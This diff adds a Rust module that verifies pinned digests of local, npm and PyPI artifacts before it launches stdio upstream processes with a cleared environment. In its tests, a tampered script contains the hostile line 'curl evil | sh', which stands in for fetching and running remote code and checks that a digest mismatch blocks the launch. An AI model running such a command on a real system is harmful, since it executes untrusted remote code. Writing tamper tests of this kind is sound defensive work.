@@ -1,0 +1,305 @@
+//! Starting a stdio upstream from its pinned artifact.
+//!
+//! The artifact's digest is checked before every spawn: a local program's file; an npm package's
+//! tarball (fetched once with `npm pack` into the cache, then re-hashed from the cache each time);
+//! a PyPI file (fetched once with `pip download`, re-hashed each time, installed into a private
+//! virtual environment). A mismatch stops the launch and names both digests. The process gets no
+//! shell and a cleared environment: only the variables the config lists (each from a secret
+//! reference), plus `PATH` and `HOME` for the package launchers.
+
+use std::path::{Path, PathBuf};
+
+use registry::{Artifact, CommandSource, Integrity};
+
+/// Why a launch was refused.
+#[derive(Debug, thiserror::Error)]
+pub(crate) enum LaunchError {
+    #[error("`{what}` does not match its pinned digest: pinned {pinned}, found {found}; not started")]
+    Mismatch {
+        what: String,
+        pinned: String,
+        found: String,
+    },
+    #[error("cannot read `{0}`: {1}")]
+    Read(String, String),
+    #[error("fetching `{0}` failed: {1}")]
+    Fetch(String, String),
+    #[error("`{0}` is not pinned (a digest is required in the production profile)")]
+    Unpinned(String),
+}
+
+/// Check `bytes` against `integrity`.
+fn verify(what: &str, integrity: &Integrity, bytes: &[u8]) -> Result<(), LaunchError> {
+    let found = integrity.of(bytes);
+    if found == integrity.digest {
+        return Ok(());
+    }
+    Err(LaunchError::Mismatch {
+        what: what.to_string(),
+        pinned: integrity.text.clone(),
+        found: integrity.render(&found),
+    })
+}
+
+/// A command for the verified artifact, before arguments and environment.
+pub(crate) async fn command(
+    cmd: &CommandSource,
+    cache: &Path,
+    profile: registry::Profile,
+) -> Result<tokio::process::Command, LaunchError> {
+    match &cmd.artifact {
+        Artifact::Unpinned { program } => match profile {
+            registry::Profile::Development => Ok(bare(program)),
+            registry::Profile::Production => Err(LaunchError::Unpinned(program.clone())),
+        },
+        Artifact::Local { program, integrity } => {
+            let bytes = tokio::fs::read(program)
+                .await
+                .map_err(|e| LaunchError::Read(program.clone(), e.kind().to_string()))?;
+            verify(program, integrity, &bytes)?;
+            Ok(bare(program))
+        }
+        Artifact::Npm {
+            name,
+            version,
+            integrity,
+            bin,
+        } => {
+            let tarball = npm_tarball(name, version, integrity, cache).await?;
+            let mut c = launcher("npm", cache);
+            c.arg("exec")
+                .arg("--yes")
+                .arg("--ignore-scripts")
+                .arg(format!("--package={}", tarball.display()))
+                .arg("--");
+            c.arg(bin.clone().unwrap_or_else(|| default_bin(name)));
+            Ok(c)
+        }
+        Artifact::Pypi {
+            name,
+            version,
+            integrity,
+            bin,
+        } => {
+            let venv = pypi_env(name, version, integrity, cache).await?;
+            let script = bin.clone().unwrap_or_else(|| name.clone());
+            let mut c = tokio::process::Command::new(venv.join("bin").join(script));
+            c.env_clear();
+            Ok(c)
+        }
+    }
+}
+
+fn bare(program: &str) -> tokio::process::Command {
+    let mut c = tokio::process::Command::new(program);
+    c.env_clear();
+    c
+}
+
+/// A package launcher with the cleared environment plus `PATH` and a private `HOME`.
+fn launcher(program: &str, cache: &Path) -> tokio::process::Command {
+    let mut c = tokio::process::Command::new(program);
+    c.env_clear();
+    if let Ok(path) = std::env::var("PATH") {
+        c.env("PATH", path);
+    }
+    c.env("HOME", cache.join("home"));
+    c
+}
+
+/// The executable an npm package is run by when none is named: its name without the scope.
+fn default_bin(name: &str) -> String {
+    name.rsplit('/').next().unwrap_or(name).to_string()
+}
+
+/// The cached tarball of an npm package, fetched if absent, verified every time.
+async fn npm_tarball(
+    name: &str,
+    version: &str,
+    integrity: &Integrity,
+    cache: &Path,
+) -> Result<PathBuf, LaunchError> {
+    let spec = format!("{name}@{version}");
+    let dir = cache.join("npm");
+    let file = dir.join(format!("{}-{version}.tgz", name.trim_start_matches('@').replace('/', "-")));
+    if !file.exists() {
+        let staging = tempdir_in(&dir).map_err(|e| LaunchError::Fetch(spec.clone(), e))?;
+        let out = launcher("npm", cache)
+            .arg("pack")
+            .arg(&spec)
+            .arg("--ignore-scripts")
+            .arg("--pack-destination")
+            .arg(&staging)
+            .output()
+            .await
+            .map_err(|e| LaunchError::Fetch(spec.clone(), format!("cannot run npm: {e}")))?;
+        if !out.status.success() {
+            let _ = std::fs::remove_dir_all(&staging);
+            return Err(LaunchError::Fetch(spec, last_line(&out.stderr)));
+        }
+        let packed = single_file(&staging).map_err(|e| LaunchError::Fetch(spec.clone(), e))?;
+        let bytes = std::fs::read(&packed)
+            .map_err(|e| LaunchError::Read(packed.display().to_string(), e.kind().to_string()))?;
+        // Verified before it enters the cache, and again below before every launch.
+        let checked = verify(&format!("npm:{spec}"), integrity, &bytes);
+        if checked.is_ok() {
+            std::fs::rename(&packed, &file)
+                .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
+        }
+        let _ = std::fs::remove_dir_all(&staging);
+        checked?;
+    }
+    let bytes = tokio::fs::read(&file)
+        .await
+        .map_err(|e| LaunchError::Read(file.display().to_string(), e.kind().to_string()))?;
+    verify(&format!("npm:{spec}"), integrity, &bytes)?;
+    Ok(file)
+}
+
+/// A private virtual environment with the verified PyPI file installed.
+async fn pypi_env(
+    name: &str,
+    version: &str,
+    integrity: &Integrity,
+    cache: &Path,
+) -> Result<PathBuf, LaunchError> {
+    let spec = format!("{name}=={version}");
+    let dir = cache.join("pypi");
+    let key = hex::encode(&integrity.digest);
+    let files = dir.join(format!("{key}.files"));
+    if !files.exists() {
+        let staging = tempdir_in(&dir).map_err(|e| LaunchError::Fetch(spec.clone(), e))?;
+        let out = launcher("python3", cache)
+            .args(["-m", "pip", "download", "--no-deps", "--dest"])
+            .arg(&staging)
+            .arg(&spec)
+            .output()
+            .await
+            .map_err(|e| LaunchError::Fetch(spec.clone(), format!("cannot run pip: {e}")))?;
+        if !out.status.success() {
+            let _ = std::fs::remove_dir_all(&staging);
+            return Err(LaunchError::Fetch(spec, last_line(&out.stderr)));
+        }
+        let got = single_file(&staging).map_err(|e| LaunchError::Fetch(spec.clone(), e))?;
+        let bytes = std::fs::read(&got)
+            .map_err(|e| LaunchError::Read(got.display().to_string(), e.kind().to_string()))?;
+        let checked = verify(&format!("pypi:{spec}"), integrity, &bytes);
+        if checked.is_ok() {
+            std::fs::rename(&staging, &files)
+                .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
+        } else {
+            let _ = std::fs::remove_dir_all(&staging);
+        }
+        checked?;
+    }
+    let file = single_file(&files).map_err(|e| LaunchError::Fetch(spec.clone(), e))?;
+    let bytes = tokio::fs::read(&file)
+        .await
+        .map_err(|e| LaunchError::Read(file.display().to_string(), e.kind().to_string()))?;
+    verify(&format!("pypi:{spec}"), integrity, &bytes)?;
+    let venv = dir.join(format!("{key}.venv"));
+    if !venv.join("installed").exists() {
+        let made = launcher("python3", cache)
+            .args(["-m", "venv"])
+            .arg(&venv)
+            .status()
+            .await
+            .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
+        let installed = launcher(&venv.join("bin").join("pip").display().to_string(), cache)
+            .args(["install", "--quiet", "--no-input"])
+            .arg(&file)
+            .status()
+            .await
+            .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
+        if !(made.success() && installed.success()) {
+            return Err(LaunchError::Fetch(spec, "installing into the virtual environment failed".into()));
+        }
+        std::fs::write(venv.join("installed"), &integrity.text)
+            .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
+    }
+    Ok(venv)
+}
+
+fn tempdir_in(dir: &Path) -> Result<PathBuf, String> {
+    std::fs::create_dir_all(dir).map_err(|e| format!("cannot create {}: {e}", dir.display()))?;
+    let staging = dir.join(format!(".fetch-{}", hex::encode(rand::random::<[u8; 8]>())));
+    std::fs::create_dir(&staging).map_err(|e| format!("cannot create {}: {e}", staging.display()))?;
+    Ok(staging)
+}
+
+fn single_file(dir: &Path) -> Result<PathBuf, String> {
+    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
+        .map_err(|e| e.to_string())?
+        .filter_map(|e| e.ok().map(|e| e.path()))
+        .filter(|p| p.is_file())
+        .collect();
+    match (files.pop(), files.is_empty()) {
+        (Some(f), true) => Ok(f),
+        _ => Err("expected exactly one downloaded file".into()),
+    }
+}
+
+fn last_line(stderr: &[u8]) -> String {
+    let text = String::from_utf8_lossy(stderr);
+    let mut line = text
+        .lines()
+        .rev()
+        .find(|l| !l.trim().is_empty())
+        .unwrap_or("no output")
+        .to_string();
+    crate::redact::shorten(&mut line, 300);
+    line
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn source(program: &str, integrity: &str) -> CommandSource {
+        let artifact = Artifact::Local {
+            program: program.into(),
+            integrity: Integrity::parse(integrity).unwrap(),
+        };
+        CommandSource {
+            program: program.into(),
+            artifact,
+            args: vec![],
+            env: Default::default(),
+            cwd: None,
+        }
+    }
+
+    #[tokio::test]
+    async fn a_program_whose_digest_differs_is_not_started() {
+        let dir = tempfile::tempdir().unwrap();
+        let prog = dir.path().join("server");
+        std::fs::write(&prog, b"#!/bin/sh\nexit 0\n").unwrap();
+        let good = format!("sha256:{}", hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"#!/bin/sh\nexit 0\n")));
+        let p = prog.display().to_string();
+        assert!(command(&source(&p, &good), dir.path(), registry::Profile::Production).await.is_ok());
+        // The file changes after it was pinned.
+        std::fs::write(&prog, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let err = command(&source(&p, &good), dir.path(), registry::Profile::Production)
+            .await
+            .unwrap_err();
+        assert!(matches!(err, LaunchError::Mismatch { .. }), "{err}");
+        assert!(err.to_string().contains(&good), "{err}");
+        // A missing file is an error too, never a launch.
+        let gone = dir.path().join("gone").display().to_string();
+        assert!(command(&source(&gone, &good), dir.path(), registry::Profile::Production).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn unpinned_programs_run_only_in_development() {
+        let src = CommandSource {
+            program: "/bin/true".into(),
+            artifact: Artifact::Unpinned { program: "/bin/true".into() },
+            args: vec![],
+            env: Default::default(),
+            cwd: None,
+        };
+        let dir = tempfile::tempdir().unwrap();
+        assert!(command(&src, dir.path(), registry::Profile::Production).await.is_err());
+        assert!(command(&src, dir.path(), registry::Profile::Development).await.is_ok());
+    }
+}
